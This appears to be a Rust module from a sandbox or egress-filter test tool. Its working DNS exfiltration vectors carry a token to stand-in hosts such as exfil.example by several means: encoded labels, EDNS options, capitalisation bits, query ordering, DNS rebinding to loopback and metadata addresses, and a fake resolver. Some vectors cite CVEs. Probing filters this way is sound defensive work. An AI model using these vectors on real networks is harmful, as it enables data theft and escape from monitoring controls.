//! Names as carriers: the token is a label of a name that a stranger's zone answers for.

use std::{
    io::{Read, Write},
    net::{IpAddr, SocketAddr, SocketAddrV4, TcpStream, ToSocketAddrs, UdpSocket},
    time::Duration,
};

use super::{Attempt, Evidence, Job, KINDS, KINDS_DIGITS, ORDER, Stop, Vector, accomplice, sys};
use crate::{hello::build::Hello, process::patient, zone};

const PATIENCE: Duration = Duration::from_secs(2);
const DNS: u16 = 53;

pub(super) const VECTORS: &[Vector] = &[
    Vector::new("dns-label", "the host's resolver", |job| {
        (name(job).as_str(), 443).to_socket_addrs().map(drop)?;
        Ok(())
    }),
    Vector::new("dns-stranger", "a stranger's DNS server, UDP", |job| {
        ask_udp(job, zone::OTHER_DNS)
    }),
    Vector::new("dns-host", "the host's DNS server, UDP", |job| {
        ask_udp(job, zone::DNS)
    }),
    Vector::new("dns-host6", "the host's DNS server, IPv6", |job| {
        ask_udp(job, zone::DNS6)
    }),
    Vector::new("dns-tcp", "the host's DNS server, TCP", |job| {
        let message = question(&name(job), 1);
        let mut stream =
            TcpStream::connect_timeout(&SocketAddr::new(zone::DNS, DNS), patient(PATIENCE))?;
        stream.set_read_timeout(Some(patient(PATIENCE)))?;
        stream.write_all(&prefixed(&message))?;
        stream.read(&mut [0; 512]).map(drop)?;
        Ok(())
    }),
    Vector::new(
        "dns-tcp-second",
        "a declared name first, the token behind it in one segment",
        |job| {
            let first = prefixed(&question("allowed.example", 1));
            let both = [first, prefixed(&question(&name(job), 1))].concat();
            let mut stream =
                TcpStream::connect_timeout(&SocketAddr::new(zone::DNS, DNS), patient(PATIENCE))?;
            stream.set_read_timeout(Some(patient(PATIENCE)))?;
            stream.write_all(&both)?;
            stream.read(&mut [0; 512]).map(drop)?;
            std::thread::sleep(Duration::from_millis(100));
            Ok(())
        },
    ),
    Vector::new("dns-txt", "a TXT question", |job| {
        ask(&question(&name(job), 16), zone::DNS)
    }),
    Vector::new(
        "dns-under-declared",
        "a label below a declared exact name",
        |job| {
            ask(
                &question(&format!("{}.allowed.example", job.token), 1),
                zone::DNS,
            )
        },
    ),
    Vector::new(
        "dns-trailing",
        "bytes behind a question for a declared name",
        |job| {
            let message = [&question("allowed.example", 1), job.bytes()].concat();
            ask(&message, zone::DNS)
        },
    ),
    Vector::new(
        "dns-two-questions",
        "a second question in one message",
        |job| {
            let mut message = question("allowed.example", 1);
            message[5] = 2;
            message.extend(&question(&name(job), 1)[12..]);
            ask(&message, zone::DNS)
        },
    ),
    Vector::new("dns-not-dns", "the bare token on port 53", |job| {
        ask(job.bytes(), zone::OTHER_DNS)
    }),
    Vector::new(
        "dns-wildcard-label",
        "a label below a declared wildcard",
        |job| {
            let name = format!("{}.ingest.sentry.io", job.token);
            ask(&question(&name, 1), zone::DNS)
        },
    )
    .limit("a wildcard is a channel to whoever serves the domain, within a budget"),
    Vector::new("dns-null", "a NULL question", |job| {
        ask(&question(&name(job), 10), zone::DNS)
    }),
    Vector::new("dns-https", "an HTTPS question (portmaster#2247)", |job| {
        ask(&question(&name(job), 65), zone::DNS)
    }),
    Vector::new("dns-svcb", "an SVCB question", |job| {
        ask(&question(&name(job), 64), zone::DNS)
    }),
    Vector::new("dns-any", "an ANY question", |job| {
        ask(&question(&name(job), 255), zone::DNS)
    }),
    Vector::new("dns-other-class", "a question of class CHAOS", |job| {
        let mut message = question(&name(job), 16);
        let last = message.len() - 1;
        message[last] = 3;
        ask(&message, zone::DNS)
    }),
    Vector::new(
        "dns-update",
        "a dynamic update instead of a question",
        |job| {
            let mut message = question(&name(job), 6);
            message[2] = 5 << 3;
            ask(&message, zone::DNS)
        },
    ),
    Vector::new(
        "dns-notify",
        "a notification instead of a question",
        |job| {
            let mut message = question(&name(job), 6);
            message[2] = 4 << 3;
            ask(&message, zone::DNS)
        },
    ),
    Vector::new("dns-answer", "an answer instead of a question", |job| {
        let mut message = question(&name(job), 1);
        message[2] |= 0x80;
        ask(&message, zone::DNS)
    }),
    Vector::new(
        "dns-capitals",
        "bits in the capitals of a declared name (0x20)",
        |_| ask(&question("aLloWeD.eXAmPle", 1), zone::DNS),
    )
    .proven_by(Evidence::Capitals),
    Vector::new(
        "dns-edns-option",
        "an EDNS option on a declared name (OpenShell#1169)",
        |job| ask(&with_option(question("allowed.example", 1), job), zone::DNS),
    ),
    Vector::new(
        "dns-edns-tcp",
        "an EDNS option over TCP (CVE-2025-47775, CVE-2026-32946)",
        |job| {
            let message = with_option(question("allowed.example", 1), job);
            let mut stream =
                TcpStream::connect_timeout(&SocketAddr::new(zone::DNS, DNS), patient(PATIENCE))?;
            stream.set_read_timeout(Some(patient(PATIENCE)))?;
            stream.write_all(&prefixed(&message))?;
            stream.read(&mut [0; 512]).map(drop)?;
            Ok(())
        },
    ),
    Vector::new(
        "dns-declared-txt",
        "a TXT question below a declared name",
        |job| {
            let name = format!("{}.allowed.example", job.token);
            ask(&question(&name, 16), zone::DNS)
        },
    ),
    Vector::new(
        "dns-service-label",
        "a service of a declared name, called like the token",
        |job| {
            let name = format!("_{}._tcp.allowed.example", job.token);
            ask(&question(&name, 33), zone::DNS)
        },
    ),
    Vector::new(
        "dns-nul",
        "a NUL between the token and a declared name",
        |job| {
            let name = format!("{}\0x.allowed.example", job.token);
            ask(&question(&name, 1), zone::DNS)
        },
    ),
    Vector::new(
        "dns-dot-in-label",
        "a label with a dot in it that ends like a declared name",
        |job| {
            let label = format!("{}.x", job.token);
            let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
            message.push(u8::try_from(label.len()).unwrap_or(u8::MAX));
            message.extend(label.as_bytes());
            message.extend(&question("allowed.example", 1)[12..]);
            ask(&message, zone::DNS)
        },
    ),
    Vector::new(
        "dns-pipelined",
        "twenty questions in one segment, the token in the last (CVE-2025-47775)",
        |job| {
            let mut all = prefixed(&question("allowed.example", 1)).repeat(19);
            all.extend(prefixed(&question(&name(job), 1)));
            let mut stream =
                TcpStream::connect_timeout(&SocketAddr::new(zone::DNS, DNS), patient(PATIENCE))?;
            stream.set_read_timeout(Some(Duration::from_millis(500)))?;
            stream.write_all(&all)?;
            while stream.read(&mut [0; 512]).is_ok_and(|length| length > 0) {}
            Ok(())
        },
    ),
    Vector::new("dns-over-tls", "a stranger's DNS over TLS", |job| {
        let to = SocketAddr::new(zone::OTHER_DNS, 853);
        let mut stream = TcpStream::connect_timeout(&to, patient(PATIENCE))?;
        stream.write_all(&hello(&name(job)))?;
        std::thread::sleep(Duration::from_millis(100));
        Ok(())
    }),
    Vector::new(
        "dns-over-https",
        "a stranger's DNS over HTTPS (CVE-2026-32947)",
        |job| {
            let to = SocketAddr::new(zone::OTHER_DNS, 443);
            let mut stream = TcpStream::connect_timeout(&to, patient(PATIENCE))?;
            stream.write_all(&hello(&name(job)))?;
            std::thread::sleep(Duration::from_millis(100));
            Ok(())
        },
    ),
    Vector::new(
        "dns-fake-server",
        "an own DNS server that gives a declared name the stranger's address (GO-2025-3415)",
        fake_server,
    )
    .controlled(),
    Vector::new(
        "dns-hosts-file",
        "a declared name with the stranger's address from elsewhere",
        |job| {
            let mut stream = TcpStream::connect_timeout(&job.target.into(), patient(PATIENCE))?;
            write!(
                stream,
                "GET /{} HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
                job.token
            )?;
            stream.set_read_timeout(Some(patient(PATIENCE)))?;
            stream.read(&mut [0; 64]).map(drop)?;
            Ok(())
        },
    )
    .controlled(),
    Vector::new("dns-stub", "the host's stub resolver, UDP", |job| {
        through(job, accomplice::STUB, false)
    })
    .controlled(),
    Vector::new("dns-stub-tcp", "the host's stub resolver, TCP", |job| {
        through(job, accomplice::STUB, true)
    })
    .controlled(),
    Vector::new(
        "dns-resolver",
        "somebody else's resolver on a port of its own, UDP",
        |job| through(job, accomplice::RESOLVER, false),
    )
    .controlled(),
    Vector::new("dns-resolver-tcp", "the same, TCP", |job| {
        through(job, accomplice::RESOLVER, true)
    })
    .controlled(),
    Vector::new(
        "dns-order",
        "permitted names whose order spells the token",
        |job| {
            let digits: Vec<char> = job.token.chars().skip(TOKEN_PREFIX).collect();
            spell(
                job,
                digits.iter().map(|digit| (format!("{digit}.{ORDER}"), 1)),
            )
        },
    )
    .proven_by(Evidence::Order)
    .controlled(),
    Vector::new(
        "dns-kinds",
        "questions for addresses of both kinds of one permitted name, whose order spells the token",
        |job| {
            let digits = job.token.chars().skip(TOKEN_PREFIX).take(KINDS_DIGITS);
            let bits = digits.flat_map(|digit| {
                let value = digit.to_digit(16).unwrap_or(0);
                (0..4).rev().map(move |bit| value >> bit & 1)
            });
            spell(
                job,
                bits.map(|bit| (KINDS.to_owned(), if bit == 1 { 28 } else { 1 })),
            )
        },
    )
    .proven_by(Evidence::Order)
    .controlled(),
    Vector::new(
        "rebind-loopback",
        "a declared name that answers 127.0.0.1, to a relay",
        |job| rebind(job, "loopback.rebind.example", super::RELAY_PORT),
    ),
    Vector::new(
        "rebind-zero",
        "a declared name that answers 0.0.0.0, to a relay (OpenShell#592)",
        |job| rebind(job, "zero.rebind.example", super::RELAY_PORT),
    ),
    Vector::new(
        "rebind-private",
        "a declared name that answers a private address",
        |job| rebind(job, "private.rebind.example", super::PORT),
    ),
    Vector::new(
        "rebind-metadata",
        "a declared name that answers the metadata address",
        |job| rebind(job, "metadata.rebind.example", super::PORT),
    ),
    Vector::new(
        "rebind-nat64",
        "a declared name that answers a NAT64 address (GO-2026-5996)",
        |job| rebind(job, "nat64.rebind.example", super::PORT),
    ),
    Vector::new(
        "rebind-mapped",
        "a declared name that answers a mapped private address",
        |job| rebind(job, "mapped.rebind.example", super::PORT),
    ),
    Vector::new(
        "shared-address-host",
        "a stranger's name in a Host header to the declared address",
        |job| {
            let mut stream = TcpStream::connect_timeout(&job.permitted.into(), patient(PATIENCE))?;
            write!(stream, "GET / HTTP/1.1\r\nHost: {}\r\n\r\n", name(job))?;
            stream.set_read_timeout(Some(patient(PATIENCE)))?;
            stream.read(&mut [0; 64]).map(drop)?;
            Ok(())
        },
    )
    .proven_by(Evidence::Anywhere)
    .limit("a destination is an address: what is said to it is not read"),
];

/// Letters of a token in front of its digits.
const TOKEN_PREFIX: usize = 4;

/// Asks for names, one after the other. In the control run the token then goes to the declared
/// address.
fn spell(job: &Job, questions: impl Iterator<Item = (String, u16)>) -> Attempt {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.set_read_timeout(Some(patient(PATIENCE)))?;
    for (name, kind) in questions {
        socket.send_to(&question(&name, kind), (zone::DNS, DNS))?;
        socket.recv(&mut [0; 512])?;
    }
    if job.is_control() {
        socket.send_to(job.bytes(), job.permitted)?;
    }
    Ok(())
}

/// Asks a resolver on this host. In the control run it is asked for a declared name by the library,
/// and the token goes where that leads.
fn through(job: &Job, resolver: SocketAddrV4, stream: bool) -> Attempt {
    if job.is_control() {
        let found = ("allowed.example", job.permitted.port()).to_socket_addrs()?;
        let to = found.into_iter().find(SocketAddr::is_ipv4);
        let to = to.ok_or_else(|| Stop::set_up("allowed.example has no address"))?;
        UdpSocket::bind("0.0.0.0:0")?.send_to(job.bytes(), to)?;
        return Ok(());
    }
    let message = question(&name(job), 1);
    if !stream {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.set_read_timeout(Some(Duration::from_millis(500)))?;
        socket.send_to(&message, resolver)?;
        drop(socket.recv(&mut [0; 512]));
        return Ok(());
    }
    let mut stream = TcpStream::connect_timeout(&resolver.into(), patient(PATIENCE))?;
    stream.write_all(&prefixed(&message))?;
    stream.set_read_timeout(Some(Duration::from_millis(500)))?;
    drop(stream.read(&mut [0; 512]));
    Ok(())
}

fn name(job: &Job) -> String {
    format!("{}.exfil.example", job.token)
}

fn ask_udp(job: &Job, server: IpAddr) -> Attempt {
    ask(&question(&name(job), 1), server)
}

fn ask(message: &[u8], server: IpAddr) -> Attempt {
    let any: SocketAddr = if server.is_ipv4() {
        ([0; 4], 0).into()
    } else {
        ([0u16; 8], 0).into()
    };
    let socket = UdpSocket::bind(any)?;
    socket.set_read_timeout(Some(Duration::from_millis(500)))?;
    socket.send_to(message, (server, DNS))?;
    // No answer is as good as one here: whether the question arrived is asked elsewhere.
    drop(socket.recv(&mut [0; 512]));
    Ok(())
}

/// A question as RFC 1035 section 4.1 writes it, with recursion desired.
fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.push(u8::try_from(label.len()).unwrap_or(u8::MAX));
        message.extend(label.as_bytes());
    }
    message.push(0);
    message.extend(kind.to_be_bytes());
    message.extend([0, 1]);
    message
}

fn prefixed(message: &[u8]) -> Vec<u8> {
    let length = u16::try_from(message.len()).unwrap_or(u16::MAX);
    [&length.to_be_bytes(), message].concat()
}

/// With an EDNS option of the local kind (RFC 6891 section 6.1.2) that carries the token.
fn with_option(mut message: Vec<u8>, job: &Job) -> Vec<u8> {
    message[11] = 1;
    let data = job.bytes();
    let length = u8::try_from(data.len()).unwrap_or(u8::MAX);
    message.extend([0, 0, 41, 0x04, 0xd0, 0, 0, 0, 0, 0, length + 4]);
    message.extend([0xfd, 0xe9, 0, length]);
    message.extend(data);
    message
}

/// A client hello with a server name (RFC 6066 section 3).
fn hello(name: &str) -> Vec<u8> {
    Hello::named(name).record()
}

/// Looks a name up and talks to whatever the answer is, or to what it is known to be.
fn rebind(job: &Job, name: &str, port: u16) -> Attempt {
    let known = zone::standard();
    let record = known.iter().find(|record| record.name == name);
    let known = record.into_iter().flat_map(|record| {
        let six = record.aaaa.iter().copied().map(IpAddr::from);
        record.a.iter().copied().map(IpAddr::from).chain(six)
    });
    let answered = (name, port).to_socket_addrs().into_iter().flatten();
    let all: Vec<SocketAddr> = answered
        .chain(known.map(|ip| SocketAddr::new(ip, port)))
        .collect();
    let mut last = Ok(());
    for to in all {
        let domain = if to.is_ipv4() {
            libc::AF_INET
        } else {
            libc::AF_INET6
        };
        let tried = sys::socket(domain, libc::SOCK_DGRAM, 0)
            .and_then(|socket| sys::send(&socket, job.bytes(), 0, &sys::address(to)));
        last = tried.map_err(Into::into);
        let stream = TcpStream::connect_timeout(&to, Duration::from_millis(300));
        if let Ok(mut stream) = stream {
            drop(stream.write_all(job.bytes()));
        }
    }
    last
}

/// In the control run the own server tells the truth.
fn fake_server(job: &Job) -> Attempt {
    let server = UdpSocket::bind("127.0.0.1:53").or_else(|_| UdpSocket::bind("127.0.0.1:0"))?;
    server.set_read_timeout(Some(patient(PATIENCE)))?;
    let place = server.local_addr()?;
    let ip = job.target.ip().octets();
    std::thread::spawn(move || {
        let mut buffer = [0; 512];
        let Ok((length, from)) = server.recv_from(&mut buffer) else {
            return;
        };
        let mut answer = buffer[..length].to_vec();
        answer[2] |= 0x80;
        answer[7] = 1;
        answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
        answer.extend(ip);
        drop(server.send_to(&answer, from));
    });
    let socket = UdpSocket::bind("127.0.0.1:0")?;
    socket.set_read_timeout(Some(Duration::from_millis(800)))?;
    let mut answer = [0; 512];
    // Where port 53 was taken, this is a datagram to loopback, which needs a rule.
    let asked = socket.send_to(&question("allowed.example", 1), place);
    let length = asked
        .and_then(|_| socket.recv(&mut answer))
        .unwrap_or_default();
    let told = answer[..length].last_chunk::<4>().copied();
    let told = told.unwrap_or(ip);
    for ip in [told, ip] {
        let to = SocketAddr::from((ip, job.target.port()));
        let mut stream = TcpStream::connect_timeout(&to, patient(PATIENCE))?;
        stream.write_all(job.bytes())?;
        stream.set_read_timeout(Some(patient(PATIENCE)))?;
        stream.read(&mut [0; 64]).map(drop)?;
    }
    Ok(())
}
